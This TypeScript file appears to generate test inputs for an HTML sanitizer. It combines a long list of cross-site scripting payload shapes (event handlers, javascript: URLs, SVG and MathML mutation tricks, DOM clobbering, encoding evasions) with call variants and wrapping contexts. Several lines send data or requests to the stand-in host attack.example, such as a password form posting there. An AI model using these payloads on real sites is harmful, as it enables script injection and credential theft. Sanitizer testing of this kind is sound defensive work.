/** Ways to write the call that springs the trap; {@link attacks} puts each of them into each shape. */
const CALLS = [
  'trap(1)',
  'trap`1`',
  "top['tr'+'ap'](1)",
  '\\u0074rap(1)',
  '&#116;rap(1)',
  '&#x74;&#x72;ap&lpar;1&rpar;',
  'setTimeout(trap)',
  '[1].map(trap)',
]

/** Shapes that have made a browser run something, somewhere, once. `CALL` stands for the call, ⏎ for a new line. */
const SHAPES = `
<script>CALL</script>
<SCRIPT>CALL</SCRIPT>
<scr<script>ipt>CALL</scr</script>ipt>
<script/x>CALL</script >
<script type=module>CALL</script>
<script src="data:text/javascript,CALL"></script>
<script src=//attack.example/a.js></script>
<script⏎>CALL</script⏎>
<<script>CALL//<</script>
<script>CALL
<noscript><p title="</noscript><img src=x onerror=CALL>">
<img src=x onerror=CALL>
<img src=x onerror="CALL">
<img src=x oNeRrOr=CALL>
<img/src=x/onerror=CALL>
<img src=x onerror⏎=CALL>
<img """><script>CALL</script>">
<img src="x\`onerror=CALL">
<img src=x:x onerror=CALL//
<img srcset="x 1x" onerror=CALL>
<img src="javascript:CALL">
<img src=1 href=1 onerror="javascript:CALL">
<picture><source srcset=x onerror=CALL><img src=x onload=CALL></picture>
<image src=x onerror=CALL>
<svg onload=CALL>
<svg/onload=CALL>
<svg><script>CALL</script></svg>
<svg><script href="data:text/javascript,CALL"/></svg>
<svg><animate onbegin=CALL attributeName=x dur=1s></svg>
<svg><set onbegin=CALL attributename=x></svg>
<svg><a xlink:href="javascript:CALL"><text x=20 y=20>press</text></a></svg>
<svg><animate xlink:href=#x attributeName=href values="javascript:CALL"/><a id=x><text>press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='CALL'/></svg>#x"/></svg>
<svg><foreignObject><body onload=CALL></foreignObject></svg>
<svg><style><img src=x onerror=CALL></style></svg>
<svg><title><img src=x onerror=CALL></title></svg>
<svg><desc><iframe srcdoc="<script>parent.CALL</script>"></desc></svg>
<math><mtext><table><mglyph><style><img src=x onerror=CALL></style></mglyph></table></mtext></math>
<math><mi><style><!--</style><img src onerror=CALL>--></mi></math>
<math href="javascript:CALL">press</math>
<math><maction actiontype="statusline#" xlink:href="javascript:CALL">press</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL></form>
<iframe src="javascript:CALL"></iframe>
<iframe srcdoc="<img src=x onerror=parent.CALL>"></iframe>
<iframe src="data:text/html,<script>parent.CALL</script>"></iframe>
<object data="javascript:CALL"></object>
<object data="data:text/html,<script>parent.CALL</script>" type=text/html></object>
<embed src="javascript:CALL">
<frameset onload=CALL><frame src="javascript:CALL"></frameset>
<applet code="javascript:CALL"></applet>
<a href="javascript:CALL">press</a>
<a href="JaVaScRiPt:CALL">press</a>
<a href=" javascript:CALL">press</a>
<a href="java&#9;script:CALL">press</a>
<a href="java&#10;script:CALL">press</a>
<a href="&#1;javascript:CALL">press</a>
<a href="javascript&colon;CALL">press</a>
<a href="&#106;avascript:CALL">press</a>
<a href="javascript://%0aCALL">press</a>
<a href="vbscript:CALL">press</a>
<a href="data:text/html,<script>opener.CALL</script>">press</a>
<a href="data:text/html;base64,PHNjcmlwdD50cmFwKDEpPC9zY3JpcHQ+" target=_blank>press</a>
<a href=x onclick=CALL>press</a>
<a href="#" onmouseover="CALL">press</a>
<a href="x" ping="https://attack.example/ping">press</a>
<area href="javascript:CALL">
<form action="javascript:CALL"><button>press</button></form>
<form action=https://attack.example/><input name=password type=password><button>press</button></form>
<button formaction="javascript:CALL">press</button>
<input autofocus onfocus=CALL>
<input type=image src=x onerror=CALL>
<select autofocus onfocus=CALL><option>x</select>
<textarea autofocus onfocus=CALL></textarea>
<keygen autofocus onfocus=CALL>
<isindex type=image src=1 onerror=CALL>
<video><source onerror=CALL></video>
<video src=x onerror=CALL></video>
<video poster="javascript:CALL"></video>
<audio src=x onerror=CALL></audio>
<details open ontoggle=CALL><summary>x</summary></details>
<marquee onstart=CALL>x</marquee>
<dialog open onclose=CALL><form method=dialog><button>x</button></form></dialog>
<p onpointerrawupdate=CALL style="width:100vw;height:100vh">x</p>
<div style="animation:x 1s" onanimationstart=CALL>x</div>
<div onscrollsnapchange=CALL contenteditable autofocus tabindex=1 onfocus=CALL>x</div>
<x onclick=CALL tabindex=1 id=x>press</x>
<style>@import "javascript:CALL";</style>
<style>*{background:url("javascript:CALL")}</style>
<style>@import url(https://attack.example/a.css);</style>
<style><img src="</style><img src=x onerror=CALL//">
<p style="background:url(https://attack.example/a.png)">x</p>
<p style="x:expression(CALL)">x</p>
<p style="-moz-binding:url(https://attack.example/x.xml)">x</p>
<p style="position:fixed;inset:0;z-index:9999">cover</p>
<link rel=stylesheet href="javascript:CALL">
<link rel=stylesheet href=https://attack.example/a.css>
<link rel=prefetch href=https://attack.example/>
<link rel=import href="data:text/html,<script>CALL</script>">
<meta http-equiv=refresh content="0;url=javascript:CALL">
<meta http-equiv=refresh content="0;url=https://attack.example/">
<base href="https://attack.example/">
<base href="javascript:CALL//">
<body onload=CALL>
<body onpageshow=CALL background="javascript:CALL">
<html onmousemove=CALL>
<template><script>CALL</script></template>
<template shadowrootmode=open><script>CALL</script><img src=x onerror=CALL></template>
<textarea></textarea><img src=x onerror=CALL></textarea>
<title></title><img src=x onerror=CALL></title>
<xmp></xmp><img src=x onerror=CALL></xmp>
<plaintext><img src=x onerror=CALL>
<listing>&lt;img src=x onerror=CALL&gt;</listing>
<!--><img src=x onerror=CALL>-->
<!--><!-- --!><img src=x onerror=CALL>
<!-- --!><img src=x onerror=CALL> -->
<![CDATA[><img src=x onerror=CALL>]]>
<?xml version="1.0"?><img src=x onerror=CALL>
<!DOCTYPE x [<!ENTITY x "<img src=x onerror=CALL>">]>&x;
<%<img src=x onerror=CALL>%>
&lt;img src=x onerror=CALL&gt;
&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;
%3Cscript%3ECALL%3C/script%3E
\\u003cscript\\u003eCALL\\u003c/script\\u003e
+ADw-script+AD4-CALL+ADw-/script+AD4-
"><script>CALL</script>
'><script>CALL</script>
"><img src=x onerror=CALL>
" onmouseover="CALL" x="
' onfocus='CALL' autofocus='
\` onload=\`CALL
" autofocus onfocus=CALL x="
</title><script>CALL</script>
</textarea><script>CALL</script>
</style><script>CALL</script>
</script><script>CALL</script>
</noscript><img src=x onerror=CALL>
</p></div></main></body><script>CALL</script>
javascript:CALL
{{constructor.constructor("CALL")()}}
\${CALL}
<%= CALL %>
[press](javascript:CALL)
![x](x"onerror="CALL)
<javascript:CALL>
[x]: javascript:CALL
<p id=trap name=trap>clobbered</p>
<form id=document><input name=cookie></form>
<img name=getElementById><img id=body>
<a id=location href="javascript:CALL">press</a>
<table background="javascript:CALL"><td background="javascript:CALL">x</table>
<table><tr><svg><p><style><img src=x onerror=CALL></style></table>
<select><template><style><!--</style><img src=x onerror=CALL>--></template></select>
<ruby><rt><svg><style></rt><img src=x onerror=CALL></ruby>
<del cite="javascript:CALL">x</del><q cite="javascript:CALL">x</q>
<col span=1000000000><table><col span=1000000>
<font face="x&quot; onmouseover=CALL">x</font>
<b lang='"><img src=x onerror=CALL>'>x</b>
<p title='</p><img src=x onerror=CALL>'>x</p>
<p id='x"><img src=x onerror=CALL>' class='y"><script>CALL</script>'>x</p>
<a name='"><svg onload=CALL>'>x</a>
<ol start='1" onclick="CALL'><li value='"><script>CALL</script>'>x</ol>
`
  .trim()
  .split('\n')
  .map((shape) => shape.replaceAll('⏎', '\n'))

/** Where a shape is tried besides alone. */
const AROUND: readonly ((shape: string) => string)[] = [
  (shape) => shape,
  (shape) => `Once <em>upon ${shape} a time</em>.`,
  (shape) => `<p>x</p>${shape.toUpperCase().replaceAll('TRAP', 'trap')}`,
  (shape) => shape.replaceAll('<', '<\0').replaceAll('=', '\f='),
  (shape) => `<blockquote><ul><li>${shape}`,
  (shape) => `<svg><desc>${shape}</desc></svg>`,
  (shape) => `<table><tr>${shape}<td>x`,
  (shape) => `<details><summary>${shape}`,
]

/** Texts that mean harm, each different from the others. Each calls `trap`, asks a host called attack.example, or would
 * change what the page's scripts find; the shapes are those of well-known collections, the texts are ours.
 * @param count at most as many as there are combinations, a good nine thousand
 * @see https://owasp.org/www-community/xss-filter-evasion-cheatsheet */
export function attacks(count: number): readonly string[] {
  const found = new Set<string>()
  const combinations = SHAPES.length * CALLS.length * AROUND.length
  for (let at = 0; found.size < count && at < combinations; at++) {
    const shape = SHAPES[at % SHAPES.length] ?? ''
    const turn = Math.floor(at / SHAPES.length)
    const call = CALLS[(turn + at) % CALLS.length] ?? ''
    const around = AROUND[Math.floor(turn / CALLS.length) % AROUND.length]
    if (around) found.add(around(shape.replaceAll('CALL', call)))
  }
  return [...found]
}
